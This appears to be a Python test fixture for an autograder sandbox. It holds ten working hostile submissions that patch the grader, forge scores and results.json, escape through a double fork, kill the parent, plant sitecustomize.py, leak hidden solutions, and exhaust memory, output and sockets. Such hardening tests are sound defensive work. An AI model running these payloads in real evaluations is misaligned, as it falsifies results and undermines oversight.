"""Hostile submissions: the untouched starter (3 points) with the solution's decisions (12),
so 15 points honestly, plus one attack each at import time (or around ``create_app``).

Each attack also starts a *sleeper*: a process that tries to outlive the grading and
carries ``TAG`` in its command line, so a test can see that nothing is left running.
``{tag}`` and ``{drop}`` are filled in per test run: ``drop`` is a world-writable folder
the attacks may write to (the one place outside their own temp dir they can reach).
"""

from __future__ import annotations

from dataclasses import dataclass

HONEST = 15  # the starter's rejects_bad_body (3) + decisions (8 + 4)


@dataclass(frozen=True)
class Hostile:
    name: str
    what: str
    code: str
    score: float = HONEST


SLEEPER = """
import os as _o, subprocess as _sp, sys as _s
_sp.Popen([_s.executable, "-c", "import time; time.sleep(600)", "{tag}"],
          start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""

PATCH_GRADER = """
_tried = []
for _name in ("launchpad.grading.engine", "launchpad.grading.results", "launchpad.grading"):
    try:
        import importlib as _il
        _m = _il.import_module(_name)
        _m.run_check = lambda *a, **k: None
        _m.to_gradescope = lambda *a, **k: None
        _tried.append(_name + ": patched")
    except Exception as _e:
        _tried.append(f"{_name}: {type(_e).__name__}")
import launchpad.http.web as _web
_web.WebApp.__call__ = _web.WebApp.__call__  # the student may patch its own copy freely
open("{drop}/patch.txt", "w").write("\\n".join(_tried))
"""

FORGE = """
import json as _json, os as _o, sys as _s, threading as _th
_fd = int(_s.argv[2])  # the harness's reply pipe: write claims on it
for _i in range(1, 200):
    _o.write(_fd, (_json.dumps({"id": _i, "ok": True, "active": 0}) + "\\n").encode())
_o.write(_fd, b'{"event": "done", "score": 105}\\n' + b"x" * 200000 + b"\\n")
_forged = _json.dumps({"score": 105, "max_score": 100, "tests": []})
_code = (
    "import os, time\\n"
    "for _ in range(300):\\n"
    "    for root, dirs, files in os.walk('/tmp'):\\n"
    "        for f in files:\\n"
    "            if f == 'results.json':\\n"
    "                try: open(os.path.join(root, f), 'w').write(" + repr(_forged) + ")\\n"
    "                except OSError: pass\\n"
    "    time.sleep(0.05)\\n"
)
import subprocess as _sp
_sp.Popen([_s.executable, "-c", _code, "{tag}"], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""

ESCAPE = """
import os as _o, sys as _s, time as _t
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        _code = ("import time, pathlib\\n"
                 "while True:\\n"
                 "    pathlib.Path('{drop}/alive').write_text(str(time.time()))\\n"
                 "    time.sleep(0.05)\\n")
        _o.execve(_s.executable, [_s.executable, "-c", _code, "{tag}"], {{}})
    _o._exit(0)
_t.sleep(0.2)
"""

KILL_PARENT = """
import os as _o, signal as _sig
_victims = {_o.getppid()}
for _p in _o.listdir("/proc"):
    try:
        _cmd = open(f"/proc/{_p}/cmdline", "rb").read()
    except OSError:
        continue
    if b"{tag}-class" in _cmd:
        _victims.add(int(_p))
_outcome = []
for _v in _victims:
    try:
        _o.kill(_v, _sig.SIGKILL)
        _outcome.append(f"{_v}: killed")
    except OSError as _e:
        _outcome.append(f"{_v}: {type(_e).__name__}")
open("{drop}/kill-{tag}.txt", "w").write("\\n".join(_outcome))
"""

WRITE_KIT = """
import pathlib as _pl, site as _site, launchpad as _lp
_kit = _pl.Path(_lp.__file__).resolve().parents[1]
_targets = [
    _kit / "launchpad" / "__init__.py",
    _kit / "launchpad" / "grading" / "results.py",
    _kit / "exercises" / "checkout" / "provided.py",
    *(_pl.Path(p) / "sitecustomize.py" for p in _site.getsitepackages()),
    _kit / "sitecustomize.py",
]
_outcome = []
for _t in _targets:
    try:
        with open(_t, "a") as _f:
            _f.write("\\nraise SystemExit('owned')\\n")
        _outcome.append(f"{_t}: written")
    except OSError as _e:
        _outcome.append(f"{_t}: {type(_e).__name__}")
open("{drop}/write.txt", "w").write("\\n".join(_outcome))
"""

LEAK = """
import pathlib as _pl, launchpad as _lp
_kit = _pl.Path(_lp.__file__).resolve().parents[1]
_text = ""
for _folder in ("instructor", "launchpad/grading/checkout/checks", "solutions/checkout"):
    for _f in sorted((_kit / _folder).rglob("*.py")):
        try:
            _text += _f.read_text()
        except OSError:
            pass
_LEAK = ("LEAK:" + (_text or "none")).encode()
_orig_create_app = create_app


def create_app(env):
    def leaky(environ, start_response):
        start_response("400 Bad Request", [("Content-Type", "text/plain")])
        return [_LEAK]

    return leaky
"""

MEMORY = """
_kept = []
try:
    _kept.append(bytearray(8 << 30))
except MemoryError:
    pass
try:
    while True:
        _kept.append(bytearray(64 << 20))
except MemoryError:
    _kept.clear()
"""

OUTPUT = """
import sys as _s
try:
    for _ in range(4000):
        _s.stdout.write("flood " * 5000 + "\\n")
except OSError:
    pass
"""

SOCKETS = """
import socket as _so
_socks = []
try:
    for _ in range(100000):
        _socks.append(_so.socket())
except OSError:
    pass
for _k in _socks:
    _k.close()
_orig_create_app = create_app


def create_app(env):
    host, port = env.auth_url.rsplit("/", 1)[-1].split(":")
    held = []
    try:
        for _ in range(5000):
            held.append(_so.create_connection((host, int(port)), timeout=1))
    except OSError:
        pass
    for s in held:
        s.close()
    return _orig_create_app(env)
"""

RESPONSE = """
_orig_create_app = create_app


def create_app(env):
    app = _orig_create_app(env)

    def padded(environ, start_response):
        def start(status, headers, exc_info=None):
            headers = [(k, v) for k, v in headers if k.lower() != "content-length"]
            return start_response(status, headers)

        yield from app(environ, start)
        for _ in range(400):
            yield b" " * (256 * 1024)

    return padded
"""

HOSTILE = [
    Hostile("patch-grader", "patches the grader's functions at import", PATCH_GRADER),
    Hostile("forge", "forges replies on the pipe and rewrites results.json files", FORGE),
    Hostile("escape", "setsid + double fork + empty environment, outlives the grading", ESCAPE),
    Hostile("kill-parent", "SIGKILLs its parent and the batch", KILL_PARENT),
    Hostile("write-kit", "appends to the kit's files and plants sitecustomize.py", WRITE_KIT),
    # 400 to everything: rejects_bad_body and the hidden missing_idempotency_key pass
    Hostile("leak", "reads hidden checks and the solution into its answers", LEAK, 18),
    Hostile("memory", "allocates until MemoryError", MEMORY),
    Hostile("output", "floods stdout with 120 MB", OUTPUT),
    Hostile("sockets", "opens sockets until refused, and 5000 connections to auth", SOCKETS),
    Hostile("response", "answers every request with 100 MB of padding", RESPONSE),
]


def source(starter: str, hostile: Hostile, tag: str, drop: str) -> str:
    """The starter's checkout.py with the attack (and a sleeper) appended."""
    attack = (SLEEPER + hostile.code).replace("{tag}", tag).replace("{drop}", drop)
    return starter + "\n\n# -- the attack " + "-" * 60 + "\n" + attack.replace("{{}}", "{}")
